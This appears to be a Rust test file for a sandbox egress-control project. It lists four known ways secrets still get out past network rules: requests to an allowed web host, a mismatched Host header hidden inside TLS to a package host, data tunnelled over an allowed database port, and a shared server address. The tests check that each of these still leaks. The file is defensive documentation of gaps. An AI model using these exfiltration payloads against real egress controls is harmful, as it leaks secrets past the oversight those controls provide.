//! What rules cannot stop (docs/egress.md, "What remains"): it gets out, and is known to. What
//! is stopped one day fails here, and is one line less there.

use lakekeep_tests::for_each_privilege;
use libtest_mimic::Failed;

use crate::Attempt;
use crate::ground::{Ground, Leak};

pub const ATTEMPTS: &[Attempt] = &[
    (
        "an_allowed_host_is_told_anything",
        r"say('web.example', 8080, b'GET /secret HTTP/1.1\r\nHost: web.example\r\n\r\n')",
    ),
    (
        "within_tls_nothing_is_looked_at",
        "say('pypi.example', 443, tls_hello(sni(b'pypi.example')), b'Host: secret.example')",
    ),
    (
        "an_allowed_tunnel_carries_anything",
        r"say('db.example', 5432, b'\0\0\0\x10secret')",
    ),
    (
        "an_address_is_every_site_there",
        r"say(SERVER, 80, b'GET / HTTP/1.1\r\nHost: secret.example\r\n\r\n')",
    ),
];

pub fn attempt(name: &str, words: &str) -> Result<(), Failed> {
    let shared = Ground::shared(name);
    let Some(ground) = shared.as_deref().and_then(Option::as_ref) else {
        return Ok(());
    };
    let mut failed = None;
    for_each_privilege(name, |privilege| {
        let inside = ground.inside(privilege, words);
        if !inside.leaked(Leak::Secret) || inside.mistaken() || !inside.permitted() {
            failed.get_or_insert_with(|| format!("{privilege:?}: it is stopped: {inside:#?}"));
        }
    });
    failed.map_or(Ok(()), |failed| Err(failed.into()))
}
